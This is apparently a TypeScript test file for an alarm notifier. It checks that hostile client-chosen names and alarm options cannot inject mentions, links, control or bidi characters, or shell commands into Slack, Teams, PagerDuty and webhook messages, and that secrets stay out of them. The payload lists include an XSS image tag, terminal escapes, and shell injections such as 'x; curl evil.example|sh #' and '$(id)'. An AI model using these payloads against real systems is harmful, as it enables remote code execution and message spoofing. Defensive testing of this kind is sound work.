import fc from 'fast-check';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { pagerDutyEvent } from '../../../lambdas/notifier/channels/pagerDuty.ts';
import { slackMessage } from '../../../lambdas/notifier/channels/slack.ts';
import { teamsMessage } from '../../../lambdas/notifier/channels/teams.ts';
import { webhookRequest } from '../../../lambdas/notifier/channels/webhook.ts';
import { cleanName, cleanText } from '../../../lambdas/notifier/clean.ts';
import { commandsOf } from '../../../lambdas/notifier/commands.ts';
import { compose } from '../../../lambdas/notifier/compose.ts';
import { text } from '../../../lambdas/notifier/text.ts';
import { partsIn, secretsToPlant } from '../../support/plantedSecrets.ts';
import { awsStandIn } from './receivers.ts';
import { alarmMessage, DESCRIPTION } from './support.ts';

afterEach(() => vi.unstubAllEnvs());

const KEY = `whsec_${Buffer.alloc(32, 7).toString('base64')}`;

/** The notification of an alarm whose top contributors have these names, and everything that channels make of it. */
async function renderedWith(names: readonly string[], message: string = alarmMessage()) {
  const Contributors = names.map((name) => ({ Keys: [name, 'free'], ApproximateAggregateValue: 1e21 }));
  const aws = await awsStandIn({ GetInsightRuleReport: () => ({ KeyLabels: ['$.client'], Contributors }) });
  const settings = { topics: {}, channels: [], accessLog: 'log' };
  const context = {
    api: 'documents',
    name: 'documents',
    access: { roles: {}, routes: [] },
    settings,
    environment: aws.environment,
    local: undefined,
  };
  const notification = await compose({ MessageId: '1', TopicArn: 'arn', Message: message }, context);
  const webhook = webhookRequest(notification, { url: 'https://hooks.example.com', secret: KEY, now: 0 });
  return {
    notification,
    text: text(notification),
    slack: slackMessage(notification),
    teams: teamsMessage(notification),
    pagerDuty: pagerDutyEvent(notification, 'key'),
    webhook: webhook.body,
  };
}

interface Element {
  readonly type: string;
  readonly text: string;
}

/** Texts and links of the blocks of rich text. */
function elementsOf(slack: Readonly<Record<string, unknown>>): readonly Element[] {
  const blocks = slack['blocks'] as readonly { elements?: readonly { elements: readonly Element[] }[] }[];
  return blocks.flatMap(({ elements = [] }) => elements.flatMap((section) => section.elements));
}

const HOSTILE = [
  '<!channel> look',
  '<https://evil.example|Runbook>',
  '[Runbook](https://evil.example)',
  '**bold** _it_ `code` # head',
  '<img src=x onerror=alert(1)>',
  '\u001b[2J\u001b]0;title\u0007',
  'line\nDo first\n  Delete everything.\r\n',
  '\u202egnp.exe\u2066',
  'zero\u200bwidth\ufeff',
  '\ud800lone',
  `${'long'.repeat(1_000)}`,
  '<@U123> @everyone <!here> <!subteam^S1>',
  'www.evil.example evil.example/x mail@evil.example',
  `Z${'\u0351'.repeat(50)}`,
  '\u3164\u2800',
  '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  '\u009b31mred\u0085next',
  '',
];

describe('names that clients choose', () => {
  it('cannot add a line, a control, a direction or an invisible character to any message', async () => {
    for (const name of HOSTILE) {
      const rendered = await renderedWith([name]);
      const shown = rendered.notification.contributors?.[0]?.rows[0]?.name ?? expect.fail('no row');
      expect(shown).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
      expect(shown.length).toBeLessThan(150);
      expect(rendered.text.split('\n').filter((line) => line === 'Do first')).toHaveLength(1);
      // What JSON itself has to escape; a name shows its own escapes, whose backslash JSON doubles.
      expect(JSON.stringify(rendered)).not.toMatch(/(?<!\\)\\u00[01][0-9a-f]|(?<!\\)\\ud800|[\u200b\u202e]/i);
    }
  });

  it('are no link: their addresses are broken', () => {
    expect(cleanName('https://evil.example/x?y')).toBe('https[:]//evil[.]example/x?y');
    expect(cleanName('www.evil.example')).toBe('www.evil[.]example');
    expect(cleanName('mail@evil.co.uk, evil.de:8443')).toBe('mail@evil.co[.]uk, evil[.]de:8443');
    for (const name of ['203.0.113.9', '2001:db8::9', '/documents/{id}', 'client-1.2', 'GET'])
      expect(cleanName(name)).toBe(name);
    expect(cleanName('javascript://%0aalert(1)')).toBe('javascript[:]//%0aalert(1)');
  });

  it('are no link by another dot that browsers and mail programs read', () => {
    for (const dot of ['\u3002', '\uff0e', '\uff61', '\u2024'])
      expect(cleanName(`evil${dot}example`)).toBe('evil[.]example');
  });

  it('are quoted where one could be taken for two', async () => {
    const aws = await awsStandIn({
      GetInsightRuleReport: () => ({
        KeyLabels: ['$.subject', '$.client'],
        Contributors: [{ Keys: ['evil · client "victim"', 'web'], ApproximateAggregateValue: 9 }],
      }),
    });
    const context = {
      api: 'documents',
      name: 'documents',
      access: { roles: {}, routes: [] },
      settings: { topics: {}, channels: [], accessLog: 'log' },
      environment: aws.environment,
      local: undefined,
    };
    const { contributors } = await compose({ MessageId: '1', TopicArn: 'arn', Message: alarmMessage() }, context);
    expect(contributors?.[0]?.rows[0]?.name).toBe(`subject "evil · client 'victim'" · client web`);
  });

  it('are elements of text for Slack, which reads mentions, links and formats from mrkdwn alone', async () => {
    for (const names of [HOSTILE.slice(0, 5), HOSTILE.slice(-7, -2)]) {
      const { slack } = await renderedWith(names);
      expect(slack['text']).not.toMatch(/evil|channel|everyone|onerror|\*\*|[<>]/);
      const elements = elementsOf(slack);
      const links = elements.filter(({ type }) => type === 'link');
      expect(JSON.stringify(links)).not.toMatch(/evil/);
      expect(new Set(elements.map(({ type }) => type))).toEqual(new Set(['text', 'link']));
      const shown = elements.map((element) => element.text).join('');
      expect(shown).toMatch(/1\. \S/);
    }
  });

  it('are runs of text for Teams, which have no Markdown', async () => {
    const { teams } = await renderedWith(HOSTILE.slice(0, 5));
    const [{ content }] = teams['attachments'] as readonly [{ content: { body: readonly { type: string }[] } }];
    expect(new Set(content.body.map(({ type }) => type))).toEqual(new Set(['RichTextBlock']));
    expect(JSON.stringify(content)).not.toContain('"TextBlock"');
  });

  it('of any characters leave each message valid', async () => {
    const names = fc.sample(fc.string({ unit: 'binary', maxLength: 200 }), { numRuns: 200, seed: 18 });
    for (let i = 0; i < names.length; i += 5) {
      const { text: shown, webhook } = await renderedWith(names.slice(i, i + 5));
      expect(shown.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      expect(JSON.parse(webhook).data.text).toBe(shown);
    }
  });
});

describe('commands', () => {
  const shown = { isResolved: false, look: 'logs --status 401', rangeMs: 300_000 };
  const target = { name: 'Docs-1', options: '--stack Docs --region eu-west-1' };
  const hostile = ['x; curl evil.example|sh #', '$(id)', '`id`', "x' y", 'x\ny', '\u202ex', '--data', 'x&y', 'x>y', ''];

  it('name an alarm only where a shell acts on nothing in its name', () => {
    const [own] = commandsOf(target, { ...shown, alarm: 'Docs-1-failed-logins' });
    expect(own).toBe('npx secure-api alarms failed-logins --stack Docs --region eu-west-1');
    for (const name of hostile) {
      const commands = commandsOf(target, { ...shown, alarm: `Docs-1-${name}` });
      expect(
        commands.filter((command) => command.includes(' alarms')),
        name,
      ).toEqual([]);
      expect(commands).toHaveLength(2);
    }
  });

  it('have no option and no look on which a shell acts', () => {
    const alarm = 'Docs-1-failed-logins';
    for (const name of hostile) {
      for (const option of ['stack', 'region', 'api', 'data']) {
        const options = `--stack Docs --${option} ${name}`;
        expect(commandsOf({ ...target, options }, { ...shown, alarm }), options).toEqual([]);
        expect(commandsOf({ ...target, options }, { ...shown, alarm, isResolved: true }), options).toEqual([]);
      }
      expect(commandsOf(target, { ...shown, alarm, look: `logs ${name};` })).toHaveLength(2);
    }
    for (const options of ['', '--data ../a/b', "--data '/a b/it'\\''s $(x)'", '--api Docs-1 --data /tmp/x'])
      expect(commandsOf({ ...target, options }, { ...shown, alarm }), options).toHaveLength(3);
  });
});

describe('links', () => {
  it('cannot leave their place in Slack', async () => {
    const description = DESCRIPTION.replace(/Runbook: .*/, 'Runbook: https://docs.example.com/a|b>c<!channel>&d');
    const { slack } = await renderedWith([], alarmMessage({ AlarmDescription: description }));
    const [first] = elementsOf(slack).filter(({ type }) => type === 'link');
    expect(first).toEqual({ type: 'link', text: 'Runbook', url: 'https://docs.example.com/a|b%3Ec%3C!channel%3E&d' });
  });

  it('go to the console of the region, and to the requests of that time', async () => {
    const { notification } = await renderedWith([]);
    expect(notification.links).toMatchObject({
      alarm:
        'https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#alarmsV2:alarm/documents-failed-logins',
      query: expect.stringMatching(
        /^https:\/\/eu-west-1\.console\.aws\.amazon\.com\/cloudwatch\/home\?region=eu-west-1#logsV2:logs-insights\$3FqueryDetail\$3D~\(end~\$272026-11-29T10\*3a05/,
      ),
    });
  });
});

describe('secrets', () => {
  it('are in no message, wherever they are planted', async () => {
    for (const secret of secretsToPlant(3)) {
      const message = alarmMessage({
        AlarmDescription: `${secret.text}\nMeasures: ${secret.text}\nOwner: ${secret.text}`,
        NewStateReason: secret.text,
        AlarmName: 'documents-failed-logins',
      });
      const rendered = await renderedWith([secret.text], message);
      expect(partsIn(JSON.stringify(rendered), secret)).toEqual([]);
      expect(partsIn(cleanText(secret.text), secret)).toEqual([]);
    }
  });
});
